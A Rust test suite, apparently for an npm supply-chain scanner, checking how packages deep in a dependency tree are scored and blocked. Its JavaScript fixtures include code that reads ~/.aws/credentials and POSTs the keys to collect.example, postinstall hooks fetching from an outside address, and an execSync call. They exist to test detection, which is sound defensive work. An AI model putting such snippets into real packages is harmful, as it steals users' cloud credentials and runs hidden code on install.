//! What the report says of all that an installation brings.

use serde_json::{Value, json};

use super::market::{HONEST, Market, THIEF};
use crate::trouble::desk::Desk;

fn judged(desk: &Desk, market: &Market, spec: &str) -> Value {
    desk.json(&["npm", spec, "--deps", "all", "--registry", &market.server.url("/")])
}

fn purls(report: &Value) -> Vec<&str> {
    report["dependencies"]["installation"]["packages"].as_array().unwrap().iter().map(|one| one["purl"].as_str().unwrap()).collect()
}

fn with_a_thief_below() -> Market {
    Market::new()
        .offers("server@1.0.0", &[("middle", "^1")])
        .offers("middle@1.2.0", &[("below", "^2"), ("honest", "*")])
        .sells("below@2.0.1", json!({}), &[("index.js", THIEF)])
        .sells("honest@3.0.0", json!({}), &[("index.js", HONEST)])
}

#[test]
fn a_thief_below_blocks_the_server_that_brings_it() {
    let (desk, market) = (Desk::new(), with_a_thief_below());
    let alone = desk.json(&["npm", "server@1.0.0", "--registry", &market.server.url("/")]);
    assert_ne!(alone["verdict"], "block", "{alone}");
    let report = judged(&desk, &market, "server@1.0.0");
    assert_eq!(report["verdict"], "block");
    assert!(report["score"]["value"].as_u64().unwrap() <= 10, "{}", report["score"]);
    assert_eq!(purls(&report), ["pkg:npm/below@2.0.1", "pkg:npm/honest@3.0.0", "pkg:npm/middle@1.2.0"]);
    let dependencies = &report["dependencies"];
    assert_eq!((&dependencies["resolved"], &dependencies["scanned"], &dependencies["failed"]), (&json!(3), &json!(3), &json!([])));
    let worst = &dependencies["worst"][0];
    assert_eq!(worst["path"], json!(["server", "middle", "below"]));
    assert_eq!((&worst["verdict"], &worst["used"]), (&json!("block"), &json!(true)));
    let why: Vec<&str> = report["score"]["deductions"].as_array().unwrap().iter().map(|one| one["rule"].as_str().unwrap()).collect();
    assert!(why.contains(&"cap:blocked-dependency"), "{why:?}");
    assert!(report["summary"].as_str().unwrap().contains("below@2.0.1 (middle > below)"), "{}", report["summary"]);
}

#[test]
fn a_person_reads_the_worst_first_and_how_it_comes_in() {
    let (desk, market) = (Desk::new(), with_a_thief_below());
    let ran = desk.run(&["npm", "server@1.0.0", "--deps", "all", "--registry", &market.server.url("/")]);
    assert_eq!(ran.code, Some(1), "{}", ran.err);
    assert!(
        ran.out.contains("\nDependencies: 3 judged: 2 pass, 1 block\n  block       below@2.0.1 (middle > below): critical["),
        "{}",
        ran.out
    );
    assert!(ran.out.contains("They can, and the package alone cannot:\n    connect to      collect.example (below@2.0.1)"), "{}", ran.out);
}

#[test]
fn a_clean_installation_passes_and_says_what_was_judged() {
    let desk = Desk::new();
    let market = Market::new().offers("server@1.0.0", &[("honest", "*")]).sells("honest@3.0.0", json!({}), &[("index.js", HONEST)]);
    let report = judged(&desk, &market, "server");
    assert_eq!((&report["verdict"], &report["score"]["value"]), (&json!("pass"), &json!(100)), "{}", report["score"]);
    assert!(report["summary"].as_str().unwrap().ends_with("The same holds for the package that comes with it."), "{}", report["summary"]);
}

/// Asks a machine that nobody has named, once somebody calls it: grave, but no theft.
const GRAVE: &str = "const https = require('https');
exports.run = (done) => https.get('https://192.0.2.7/data', done);
";

#[test]
fn a_flaw_in_code_that_is_never_imported_weighs_less() {
    let desk = Desk::new();
    let market = Market::new()
        .offers("uses@1.0.0", &[("odd", "1")])
        .sells("idles@1.0.0", json!({"dependencies": {"odd": "1"}}), &[("index.js", HONEST)])
        .sells("odd@1.0.0", json!({}), &[("index.js", GRAVE)]);
    let (uses, idles) = (judged(&desk, &market, "uses@1.0.0"), judged(&desk, &market, "idles@1.0.0"));
    let used = |report: &Value| report["dependencies"]["installation"]["packages"][0]["used"].clone();
    assert_eq!((used(&uses), used(&idles)), (json!(true), json!(false)));
    let score = |report: &Value| report["score"]["value"].as_u64().unwrap();
    assert_eq!((&uses["verdict"], &idles["verdict"]), (&json!("review"), &json!("pass")), "{} {}", uses["score"], idles["score"]);
    assert!(score(&uses) < score(&idles), "{} {}", uses["score"], idles["score"]);
}

/// Gives its caller the keys that are the caller's.
const PROVIDER: &str = "const fs = require('fs');
const os = require('os');
const path = require('path');
exports.keys = () => fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'), 'utf8');
";

#[test]
fn what_a_library_reads_for_whoever_imports_it_is_judged_milder_than_what_a_server_reads() {
    let desk = Desk::new();
    let market = Market::new().offers("server@1.0.0", &[("provider", "1")]).sells("provider@1.0.0", json!({}), &[("index.js", PROVIDER)]);
    let alone = desk.json(&["npm", "provider@1.0.0", "--registry", &market.server.url("/")]);
    let worst = |report: &Value| report["findings"][0]["severity"].clone();
    assert_eq!((&alone["verdict"], worst(&alone)), (&json!("block"), json!("critical")), "{}", alone["findings"]);
    let report = judged(&desk, &market, "server@1.0.0");
    let provider = &report["dependencies"]["installation"]["packages"][0];
    assert_eq!((&report["verdict"], &provider["findings"][0]["severity"]), (&json!("pass"), &json!("medium")), "{provider}");
}

#[test]
fn a_theft_in_two_halves_is_no_pass() {
    let desk = Desk::new();
    let sends = "const https = require('https');
const { keys } = require('provider');
const request = https.request({ host: 'collect.example', method: 'POST' });
exports.report = () => request.end(JSON.stringify({ keys: keys() }));
exports.own = (text) => text.trim().toLowerCase().split(',').map(String).filter(Boolean).sort().reverse().slice(1).concat(['end']).join(';');
";
    let market = Market::new().sells("server@1.0.0", json!({"dependencies": {"provider": "1"}}), &[("index.js", sends)]).sells(
        "provider@1.0.0",
        json!({}),
        &[("index.js", PROVIDER)],
    );
    let report = judged(&desk, &market, "server@1.0.0");
    assert_eq!(report["verdict"], "review", "{}", report["summary"]);
    let reasons: Vec<&str> = report["score"]["deductions"].as_array().unwrap().iter().map(|one| one["reason"].as_str().unwrap()).collect();
    assert!(
        reasons.iter().any(|reason| reason.starts_with("connects to `collect.example`") && reason.contains("provider@1.0.0")),
        "{reasons:?}"
    );
}

#[test]
fn what_runs_at_installation_counts_whoever_imports_it() {
    let desk = Desk::new();
    let hook = json!({"scripts": {"postinstall": "node setup.js"}});
    let asks = "require('https').get('https://192.0.2.7/data', () => {});\n";
    let market = Market::new().sells("server@1.0.0", json!({"dependencies": {"hooked": "1"}}), &[("index.js", HONEST)]).sells(
        "hooked@1.0.0",
        hook,
        &[("index.js", HONEST), ("setup.js", asks)],
    );
    let report = judged(&desk, &market, "server@1.0.0");
    let hooked = &report["dependencies"]["installation"]["packages"][0];
    assert_eq!((&hooked["used"], &hooked["runs_at_install"]), (&json!(false), &json!(true)));
    assert_ne!(report["verdict"], "pass", "{}", report["score"]);
}

#[test]
fn a_program_of_a_dependency_is_judged_since_scripts_may_call_it_by_its_name() {
    let desk = Desk::new();
    let calls = json!({"dependencies": {"tool": "1"}, "scripts": {"postinstall": "tool"}});
    let market = Market::new().sells("server@1.0.0", calls, &[("index.js", HONEST)]).sells(
        "tool@1.0.0",
        json!({"bin": {"tool": "cli.js"}}),
        &[("index.js", HONEST), ("cli.js", THIEF)],
    );
    assert_eq!(judged(&desk, &market, "server@1.0.0")["verdict"], "block");
}

#[test]
fn packages_of_the_same_scope_are_judged_as_part_of_it() {
    let desk = Desk::new();
    let eval = "module.exports = (tool) => tool;\nmodule.exports.all = () => require('child_process').execSync('id');\n";
    let market = Market::new()
        .sells(
            "@acme/server@1.0.0",
            json!({"dependencies": {"@acme/core": "1"}}),
            &[("index.js", "module.exports = require('@acme/core');\n")],
        )
        .sells("@acme/core@1.0.0", json!({}), &[("index.js", eval)]);
    let report = judged(&desk, &market, "@acme/server@1.0.0");
    let capabilities = report["capabilities"].as_array().unwrap();
    let process = capabilities.iter().find(|one| one["kind"] == "process").unwrap_or_else(|| panic!("{capabilities:?}"));
    assert_eq!((&process["path"], &process["origin"]), (&json!("node_modules/@acme/core/index.js"), &json!("dependency:@acme/core@1.0.0")));
    assert_eq!(report["shim"], Value::Null, "what it hands over to was judged: {}", report["shim"]);
    assert_eq!(report["dependencies"]["installation"]["packages"][0]["own"], true);
}

#[test]
fn what_was_judged_is_not_asked_for_again_and_gives_the_same_bytes() {
    let (desk, market) = (Desk::new(), with_a_thief_below());
    let line = |spec: &'static str| ["npm", spec, "--deps", "all", "--format", "json", "--registry"];
    let url = market.server.url("/");
    let first = desk.run(&[&line("server@1.0.0")[..], &[&url]].concat()).out;
    let asked = market.asked();
    assert_eq!(desk.run(&[&line("server@1.0.0")[..], &[&url]].concat()).out, first);
    assert_eq!(desk.run(&[&line("server@1.0.0")[..], &[&url, "--offline"]].concat()).out, first);
    assert_eq!(market.asked(), asked, "a warm answer needs no network");
    assert_eq!(desk.run(&[&line("server@1.0.0")[..], &[&url, "--no-cache"]].concat()).out, first);
    assert!(market.asked() > asked);
}

#[test]
fn a_second_server_fetches_only_what_the_first_did_not_bring() {
    let desk = Desk::new();
    let market = Market::new()
        .offers("one@1.0.0", &[("shared", "1")])
        .offers("two@1.0.0", &[("shared", "1"), ("fresh", "1")])
        .sells("shared@1.0.0", json!({}), &[("index.js", HONEST)])
        .sells("fresh@1.0.0", json!({}), &[("index.js", HONEST)]);
    judged(&desk, &market, "one@1.0.0");
    judged(&desk, &market, "two@1.0.0");
    let fetched = |path: &str| market.server.asked_for(path).len();
    assert_eq!((fetched("/shared/-/shared-1.0.0.tgz"), fetched("/fresh/-/fresh-1.0.0.tgz")), (1, 1));
}
